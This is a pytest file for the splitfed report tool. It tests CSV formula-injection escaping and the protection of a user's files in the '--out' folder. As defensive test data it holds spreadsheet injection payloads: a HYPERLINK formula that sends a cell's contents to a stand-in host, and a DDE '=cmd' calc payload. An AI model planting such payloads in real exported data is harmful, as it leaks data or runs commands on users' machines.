"""``splitfed report``'s files as a user meets them: summary.csv and rounds.csv opened in a spreadsheet (a
run named ``=HYPERLINK(...)`` ran as a formula), and ``--out`` naming a folder of the user's own files (their
``summary.md`` was replaced without a word)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from splitfed.cli import main as cli
from splitfed.report import plots
from splitfed.report.runs import load_runs, rows_to_run, write_run
from splitfed.report.summary import csv_texts
from tests.test_report import make_rows

FORMULA = ("=", "+", "-", "@", "\t", "\r")  # what starts a formula in Excel and LibreOffice (OWASP)


def _table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:  # a label's CR as it is (read_text makes it a newline)
        return list(csv.reader(f))


def _digests(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------- CSV formula injection


def test_a_run_whose_name_starts_a_formula_is_text_in_the_csv_files(tmp_path: Path) -> None:
    """Before: summary.csv and rounds.csv held the name as it is, ``=HYPERLINK(...)`` first in its cell,
    which a spreadsheet runs as a formula. Now it is led by ``'`` (shown as text); a negative number (a loss
    of -0.5) stays a number, and a name that starts no formula is as it was."""
    labels = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
    rows = [{**row, "loss": -0.5} for row in make_rows(2)]
    for i, label in enumerate(labels):
        write_run(tmp_path / "runs" / f"x{i}", rows, {"label": label})
    write_run(tmp_path / "runs" / "run-1=a", rows)
    folders = [*(str(tmp_path / "runs" / f"x{i}") for i in range(len(labels))), str(tmp_path / "runs" / "run-1=a")]
    assert cli(["report", *folders, "--out", str(tmp_path / "out")]) == 0
    summary = _read_csv(tmp_path / "out" / "summary.csv")
    rounds = _read_csv(tmp_path / "out" / "rounds.csv")
    want = [*("'" + label for label in labels), "run-1=a"]
    assert [row[0] for row in summary[1:]] == want
    assert [row[0] for row in rounds[1:]] == [label for label in want for _ in (1, 2)]
    assert {row[rounds[0].index("loss")] for row in rounds[1:]} == {"-0.5"}


@settings(max_examples=200)
@given(label=st.text(min_size=1, max_size=12), loss=st.floats(allow_nan=False, allow_infinity=False))
@example(label="-0.5", loss=-0.5)
@example(label="=1+1", loss=-1e-9)
def test_no_text_cell_of_either_csv_starts_a_formula(label: str, loss: float) -> None:
    """Every cell of both files that is not a number starts as no formula does; numbers (negative ones
    too) are written as they are, and a label is itself or itself led by ``'``."""
    run = rows_to_run([{**row, "loss": loss} for row in make_rows(2)], label)
    summary, rounds = map(_table, csv_texts([run]))
    cells = [c for table in (summary, rounds) for row in table for c in row]
    assert not [c for c in cells if c.startswith(FORMULA) and not _is_number(c)]
    assert summary[1][0] == ("'" + run.label if run.label.startswith(FORMULA) else run.label)
    assert [float(row[rounds[0].index("loss")]) for row in rounds[1:]] == [loss, loss]


# ---------------------------------------------------------------- --out: a folder of the user's


def _runs(tmp_path: Path, *names: str) -> list[str]:
    for name in names:
        write_run(tmp_path / name, make_rows(3, moving=True))
    return [str(tmp_path / name) for name in names]


def test_report_refuses_to_replace_a_users_file_in_out_before_writing_anything(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``--out`` naming a folder with the user's own ``summary.md`` and ``bytes.png``. Before: both were
    replaced, unasked (exit 0). Now: refused with one line naming them and ``--overwrite``, exit 2, the folder
    as it was (no figure, no manifest, no draft); ``--overwrite`` replaces them, and leaves the rest alone."""
    run = _runs(tmp_path, "run")
    out = tmp_path / "paper"
    out.mkdir()
    (out / "summary.md").write_text("# my notes\n")
    (out / "bytes.png").write_bytes(b"my figure")
    (out / "draft.tex").write_text("\\section{}")
    before = _digests(out)
    assert cli(["report", *run, "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err == (f"splitfed report: error: cannot write the report to {out}: bytes.png, summary.md there were "
                   "not written by splitfed report (give --overwrite to replace them, or another --out)\n"), err
    assert _digests(out) == before
    (out / "bytes.png").unlink()
    assert cli(["report", *run, "--out", str(out)]) == 2
    assert ": summary.md there was not written by splitfed report (give --overwrite to replace it, " in (
        capsys.readouterr().err)
    assert cli(["report", *run, "--out", str(out), "--overwrite"]) == 0
    assert (out / "summary.md").read_text().startswith("# splitfed report\n")
    assert (out / "draft.tex").read_text() == "\\section{}"


def test_report_again_into_its_own_earlier_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A report into a folder a report wrote before replaces it without ``--overwrite`` (the manifest says
    which files it wrote, by sha256), fewer runs too (their heatmaps removed); a file the user changed since
    is theirs again, and refused."""
    from splitfed.commands.report import MANIFEST  # here: the tests above run without it

    runs = _runs(tmp_path, "a", "b")
    out = tmp_path / "paper"
    assert cli(["report", *runs, "--out", str(out)]) == 0
    assert cli(["report", *runs, "--out", str(out)]) == 0
    assert cli(["report", runs[0], "--out", str(out)]) == 0
    want = {p.name for p in plots.standard_plot_files(load_runs([tmp_path / "a"]), out)}
    assert {p.name for p in out.iterdir()} == {*want, "summary.md", "summary.csv", "rounds.csv", MANIFEST}
    written = json.loads((out / MANIFEST).read_text())["files"]
    assert hashlib.sha256((out / "summary.md").read_bytes()).hexdigest() in written["summary.md"]
    capsys.readouterr()
    with open(out / "summary.csv", "a") as f:  # the user's edit, in a spreadsheet
        f.write("mine,,,,,,,,,\n")
    assert cli(["report", runs[0], "--out", str(out)]) == 2
    assert ": summary.csv there was not written by splitfed report " in capsys.readouterr().err
    assert (out / "summary.csv").read_text().endswith("mine,,,,,,,,,\n")


def test_report_keeps_a_users_file_named_as_an_earlier_reports_figure(tmp_path: Path) -> None:
    """``predicted_vs_measured.png`` and ``cuts_2_b.png`` of the user's in ``--out``: a report of simulated runs
    draws neither. Before: both were removed as an earlier report's figures. Now only a report's are."""
    runs = _runs(tmp_path, "a")
    out = tmp_path / "paper"
    out.mkdir()
    mine = {"predicted_vs_measured.png": b"my plot", "cuts_2_b.png": b"my heatmap"}
    for name, data in mine.items():
        (out / name).write_bytes(data)
    assert cli(["report", *runs, "--out", str(out)]) == 0
    assert all((out / name).read_bytes() == data for name, data in mine.items())


def test_the_default_folder_is_the_reports_own(tmp_path: Path) -> None:
    """``RUN/report`` (the default, also when ``--out`` names it, for other runs too) is where the report
    writes, as before: a ``summary.md`` there is replaced and no manifest is needed (``simulate --overwrite``
    removes that folder). A manifest there, of a report into it when it was not the default, is kept true."""
    from splitfed.commands.report import MANIFEST  # here: the tests above run without it

    run, other = _runs(tmp_path / "runs", "run", "other")
    report = tmp_path / "runs" / "run" / "report"
    report.mkdir()
    (report / "summary.md").write_text("old\n")
    assert cli(["report", run]) == 0
    assert cli(["report", run, other, "--out", str(report)]) == 0
    assert report.joinpath("summary.md").read_text().startswith("# splitfed report\n")
    assert not (report / MANIFEST).exists()
    common = tmp_path / "runs" / "report"
    assert cli(["report", run, "--out", str(common)]) == 0  # not its default: a manifest
    assert (common / MANIFEST).is_file()
    assert cli(["report", run, other]) == 0  # their default: the manifest there kept true
    assert cli(["report", run, "--out", str(common)]) == 0


def test_a_report_that_stops_part_way_leaves_its_files_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    """A write that fails after some files are in place (here the 4th): old and new files side by side.
    The manifest, in place first, names both versions, so the next report replaces them unasked."""
    runs = _runs(tmp_path, "a", "b")
    out = tmp_path / "paper"
    assert cli(["report", *runs, "--out", str(out)]) == 0
    real, calls = os.replace, []

    def fails(src: Any, dst: Any) -> None:
        calls.append(dst)
        if len(calls) == 5:  # the manifest, then 3 figures
            raise OSError(28, "No space left on device", str(src))
        real(src, dst)

    monkeypatch.setattr(os, "replace", fails)
    assert cli(["report", runs[1], "--out", str(out)]) == 1
    assert "3 of its " in capsys.readouterr().err
    monkeypatch.setattr(os, "replace", real)
    assert cli(["report", runs[1], "--out", str(out)]) == 0


def test_an_experiments_results_csv_leads_a_formula_with_a_quote(tmp_path: Path) -> None:
    """``simulations/`` write results.csv with the same rule: a case labelled ``=cmd`` is text there."""
    from simulations.common import write_csv

    path = write_csv(tmp_path / "results.csv", [{"label": "=cmd|' /C calc'!A0", "cuts": ["-1", 2], "loss": -0.5,
                                                 "name": "plain", "none": None}])
    (head, row) = _table(path.read_text())
    assert dict(zip(head, row, strict=True)) == {"label": "'=cmd|' /C calc'!A0", "cuts": "'-1,2", "loss": "-0.5",
                                                 "name": "plain", "none": ""}
